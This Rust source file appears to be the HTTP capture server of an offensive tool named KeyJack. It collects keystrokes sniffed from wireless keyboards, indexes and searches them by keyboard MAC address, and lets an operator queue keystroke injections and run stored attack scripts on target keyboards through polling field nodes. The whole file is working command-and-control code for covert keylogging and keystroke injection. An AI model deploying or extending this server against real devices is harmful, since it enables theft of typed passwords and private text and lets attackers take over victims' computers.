use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

use axum::extract::{Path, Query, State};
use axum::http::{header, StatusCode};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use serde::Deserialize;
use serde_json::json;
use tokio::net::TcpListener;
use tower_http::services::ServeDir;

use keyjack_core::capture_server::{wire, AttackScript, CommandError, StoreError};
use keyjack_core::runner::{lock, SharedStore};
use keyjack_core::{MacAddress, Micros};

pub type Clock = Arc<dyn Fn() -> Micros + Send + Sync>;

pub fn wall_clock_us() -> Micros {
    SystemTime::now().duration_since(UNIX_EPOCH).map_or(0, |d| d.as_micros() as Micros)
}

#[derive(Clone)]
pub struct AppState {
    pub store: SharedStore,
    pub clock: Clock,
}

impl AppState {
    pub fn new(store: SharedStore) -> Self {
        AppState {
            store,
            clock: Arc::new(wall_clock_us),
        }
    }

    pub fn with_clock(store: SharedStore, clock: Clock) -> Self {
        AppState { store, clock }
    }

    fn now(&self) -> Micros {
        (self.clock)()
    }
}

const PLACEHOLDER_INDEX: &str = "<!doctype html>\n<title>KeyJack</title>\n<p>KeyJack capture server. The operator console is not installed; the API is under <code>/api/</code>.</p>\n";

/// All routes. With `static_dir`, everything outside `/api` is served from it.
pub fn router(state: AppState, static_dir: Option<PathBuf>) -> Router {
    let api = Router::new()
        .route("/api/ingest", post(ingest))
        .route("/api/nodes", get(list_nodes).post(announce))
        .route("/api/commands", get(poll_commands))
        .route("/api/commands/{id}/status", post(command_status))
        .route("/api/keyboards", get(list_keyboards))
        .route("/api/keyboards/{mac}", get(keyboard))
        .route("/api/keyboards/{mac}/captures", get(captures))
        .route("/api/keyboards/{mac}/inject", post(inject))
        .route("/api/keyboards/{mac}/scripts/{name}/run", post(run_script))
        .route("/api/search", get(search))
        .route("/api/scripts", get(list_scripts).post(add_script))
        .route("/api/injections", get(list_injections))
        .route("/api/injections/{id}", get(injection))
        .with_state(state);
    match static_dir {
        Some(dir) => api.fallback_service(ServeDir::new(dir)),
        None => api.route("/", get(|| async { Html(PLACEHOLDER_INDEX) })),
    }
}

pub async fn serve(listener: TcpListener, state: AppState, static_dir: Option<PathBuf>) -> std::io::Result<()> {
    axum::serve(listener, router(state, static_dir)).await
}

/// Binds `addr` and serves on a background runtime; returns the bound address.
pub fn spawn(addr: SocketAddr, state: AppState, static_dir: Option<PathBuf>) -> std::io::Result<SocketAddr> {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
    let listener = rt.block_on(TcpListener::bind(addr))?;
    let local = listener.local_addr()?;
    std::thread::spawn(move || {
        let _ = rt.block_on(serve(listener, state, static_dir));
    });
    Ok(local)
}

struct ApiError(StatusCode, String);

impl IntoResponse for ApiError {
    fn into_response(self) -> Response {
        (self.0, Json(json!({ "error": self.1 }))).into_response()
    }
}

impl From<StoreError> for ApiError {
    fn from(e: StoreError) -> Self {
        let code = match &e {
            StoreError::UnknownKeyboard(_) | StoreError::UnknownScript(_) => StatusCode::NOT_FOUND,
            StoreError::Command(CommandError::UnknownCommand(_)) => StatusCode::NOT_FOUND,
            StoreError::DuplicateScript(_) | StoreError::Command(_) => StatusCode::CONFLICT,
            StoreError::Io(_) | StoreError::Replay { .. } => StatusCode::INTERNAL_SERVER_ERROR,
            _ => StatusCode::BAD_REQUEST,
        };
        ApiError(code, e.to_string())
    }
}

fn bad_request(msg: impl ToString) -> ApiError {
    ApiError(StatusCode::BAD_REQUEST, msg.to_string())
}

fn parse_mac(s: &str) -> Result<MacAddress, ApiError> {
    s.parse().map_err(|e| bad_request(format!("{e}")))
}

fn text(body: String) -> Response {
    ([(header::CONTENT_TYPE, "text/plain; charset=utf-8")], body).into_response()
}

async fn ingest(State(st): State<AppState>, body: String) -> Result<Response, ApiError> {
    let ack = lock(&st.store).ingest(&body, st.now())?;
    Ok(text(ack.to_string()))
}

async fn announce(State(st): State<AppState>, body: String) -> Result<Response, ApiError> {
    let id = wire::decode_announce(body.trim_end()).map_err(bad_request)?;
    lock(&st.store).announce(&id, st.now());
    Ok(text("ok".into()))
}

#[derive(Deserialize)]
struct NodeQuery {
    node_id: Option<String>,
}

async fn poll_commands(State(st): State<AppState>, Query(q): Query<NodeQuery>) -> Result<Response, ApiError> {
    let node = q.node_id.ok_or_else(|| bad_request("node_id is required"))?;
    keyjack_core::node_agent::validate_node_id(&node).map_err(bad_request)?;
    let offered = lock(&st.store).poll_commands(&node, st.now());
    let mut body = String::new();
    for c in &offered {
        body.push_str(&wire::encode_command(c));
        body.push('\n');
    }
    Ok(text(body))
}

async fn command_status(State(st): State<AppState>, Path(id): Path<u64>, body: String) -> Result<Response, ApiError> {
    let (node, status) = wire::decode_status(body.trim_end_matches(['\n', '\r'])).map_err(bad_request)?;
    lock(&st.store).update_command(id, &node, status, st.now())?;
    Ok(text("ok".into()))
}

async fn list_nodes(State(st): State<AppState>) -> impl IntoResponse {
    let s = lock(&st.store);
    Json(s.nodes().cloned().collect::<Vec<_>>())
}

async fn list_keyboards(State(st): State<AppState>) -> impl IntoResponse {
    let s = lock(&st.store);
    Json(s.keyboards().cloned().collect::<Vec<_>>())
}

async fn keyboard(State(st): State<AppState>, Path(mac): Path<String>) -> Result<Response, ApiError> {
    let mac = parse_mac(&mac)?;
    let s = lock(&st.store);
    let kb = s.keyboard(&mac).ok_or(StoreError::UnknownKeyboard(mac))?;
    Ok(Json(kb.clone()).into_response())
}

#[derive(Deserialize)]
struct RangeQuery {
    from: Option<Micros>,
    to: Option<Micros>,
}

async fn captures(
    State(st): State<AppState>,
    Path(mac): Path<String>,
    Query(q): Query<RangeQuery>,
) -> Result<Response, ApiError> {
    let mac = parse_mac(&mac)?;
    let view = lock(&st.store).query_captures(&mac, q.from, q.to)?;
    Ok(Json(view).into_response())
}

#[derive(Deserialize)]
struct SearchQuery {
    q: Option<String>,
}

async fn search(State(st): State<AppState>, Query(q): Query<SearchQuery>) -> Result<Response, ApiError> {
    let matches = lock(&st.store).search(q.q.as_deref().unwrap_or(""))?;
    Ok(Json(matches).into_response())
}

#[derive(Deserialize)]
struct InjectBody {
    text: String,
}

async fn inject(
    State(st): State<AppState>,
    Path(mac): Path<String>,
    Json(body): Json<InjectBody>,
) -> Result<Response, ApiError> {
    let mac = parse_mac(&mac)?;
    let id = lock(&st.store).enqueue_injection(&mac, &body.text, st.now())?;
    Ok((StatusCode::CREATED, Json(json!({ "command_id": id }))).into_response())
}

async fn list_scripts(State(st): State<AppState>) -> impl IntoResponse {
    let s = lock(&st.store);
    Json(s.scripts().cloned().collect::<Vec<_>>())
}

async fn add_script(State(st): State<AppState>, Json(script): Json<AttackScript>) -> Result<Response, ApiError> {
    let name = script.name.clone();
    lock(&st.store).add_script(script)?;
    Ok((StatusCode::CREATED, Json(json!({ "name": name }))).into_response())
}

async fn run_script(
    State(st): State<AppState>,
    Path((mac, name)): Path<(String, String)>,
) -> Result<Response, ApiError> {
    let mac = parse_mac(&mac)?;
    let (run_id, ids) = lock(&st.store).run_script(&mac, &name, st.now())?;
    Ok((StatusCode::CREATED, Json(json!({ "run_id": run_id, "command_ids": ids }))).into_response())
}

async fn list_injections(State(st): State<AppState>) -> impl IntoResponse {
    let mut s = lock(&st.store);
    s.expire_commands(st.now());
    Json(s.commands().cloned().collect::<Vec<_>>())
}

async fn injection(State(st): State<AppState>, Path(id): Path<u64>) -> Result<Response, ApiError> {
    let mut s = lock(&st.store);
    s.expire_commands(st.now());
    let c = s.command(id).ok_or(StoreError::Command(CommandError::UnknownCommand(id)))?;
    Ok(Json(c.clone()).into_response())
}
